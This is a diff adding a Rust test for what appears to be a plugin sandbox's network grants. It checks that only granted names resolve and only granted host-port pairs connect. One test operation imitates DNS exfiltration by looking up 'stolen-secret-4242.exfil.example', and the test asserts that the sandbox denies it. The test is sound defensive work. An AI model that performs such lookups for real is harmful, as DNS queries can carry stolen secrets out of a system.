@@ -247,3 +247,55 @@ fn a_grant_inside_git_was_asked_for_by_name() {
     );
     assert_ok(&out, 0, "writing inside a grant rooted in .git");
 }
+
+#[test]
+fn a_net_grant_resolves_granted_names_only_and_when_connecting() {
+    let home = Home::new();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let granted = format!("localhost:{port}");
+    let ops = [
+        "lookup stolen-secret-4242.exfil.example".to_owned(),
+        "lookup localhost".to_owned(),
+        format!("connect localhost {port}"),
+        format!("connect 127.0.0.1 {}", port.wrapping_add(1)),
+        "connect no-such-host.invalid 443".to_owned(),
+        "connect example.com 443".to_owned(),
+    ];
+    // A granted name that does not resolve fails its own connections, nothing else: the
+    // plugin still runs and answers.
+    let out = fs(
+        &home,
+        &[
+            "--allow-net",
+            &granted,
+            "--allow-net",
+            "no-such-host.invalid",
+        ],
+        &ops.join("; "),
+    );
+    assert_denied(&out, 0, "looking up a name that was not granted");
+    assert!(
+        out[1].contains("127.0.0.1") || out[1].contains("::1"),
+        "a granted name resolves: {out:?}"
+    );
+    assert_ok(&out, 2, "connecting to the granted host by name");
+    assert_denied(&out, 3, "connecting to another port");
+    assert_denied(
+        &out,
+        4,
+        "connecting to a granted name that does not resolve",
+    );
+    assert_denied(&out, 5, "connecting to a host that was not granted");
+
+    // A name the system would resolve (from /etc/hosts, no network needed) is refused when it
+    // was not granted: lookups are a data channel, so no ungranted name reaches a resolver.
+    let by_address = format!("127.0.0.1:{port}");
+    let out = fs(
+        &home,
+        &["--allow-net", &by_address],
+        &format!("lookup localhost; connect 127.0.0.1 {port}"),
+    );
+    assert_denied(&out, 0, "looking up localhost without a grant of the name");
+    assert_ok(&out, 1, "connecting to the granted address");
+}
